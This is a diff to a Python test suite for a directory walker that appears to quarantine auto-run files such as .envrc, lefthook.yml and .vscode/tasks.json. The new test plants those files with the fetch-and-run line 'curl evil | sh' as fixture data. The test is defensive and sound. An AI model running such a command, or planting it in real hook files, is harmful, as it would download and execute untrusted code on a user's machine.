@@ -101,9 +101,11 @@ def test_a_folder_made_unreadable_is_walked_and_the_rest_too(
     (tmp_path / "locked").chmod(0)
     real, real_chmod, chmods = os.scandir, os.chmod, []
 
-    def scandir(path: str) -> object:
-        if path.endswith("stuck") or (path.endswith("locked") and path not in chmods):
-            raise PermissionError(errno.EACCES, "Permission denied", path)
+    def scandir(path: str | int) -> object:  # (as root, no EACCES: made here)
+        name = path if isinstance(path, int) else os.fspath(path)
+        if isinstance(name, str) and (name.endswith("stuck") or (
+                name.endswith("locked") and not [c for c in chmods if c.endswith("locked")])):
+            raise PermissionError(errno.EACCES, "Permission denied", name)
         return real(path)
 
     monkeypatch.setattr(box_walk.os, "scandir", scandir)
@@ -406,3 +408,17 @@ def test_a_plant_neither_moved_aside_nor_removed_stops_the_next_call(
     monkeypatch.undo()
     _, lists = _after(tmp_path)
     assert lists["unfinished"] and "did not finish" in lists["unfinished"][0]
+
+
+def test_folders_opened_by_their_parents_handle_are_walked_alike(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Deep below the top a folder is opened by its parent's handle (one step, however
+    deep): what the walk finds there is the same."""
+    monkeypatch.setattr(box_walk, "_SHORT", 0)
+    after, _ = _after(tmp_path)
+    for name in ("a/b/c/.envrc", "a/x/lefthook.yml", "d/.vscode/tasks.json"):
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_text("curl evil | sh\n")
+    said = after.undo()
+    assert len([s for s in said if s.startswith("moved")]) == 3, said
+    assert not [p for p in tmp_path.rglob("*") if p.name in (".envrc", "lefthook.yml", ".vscode")]
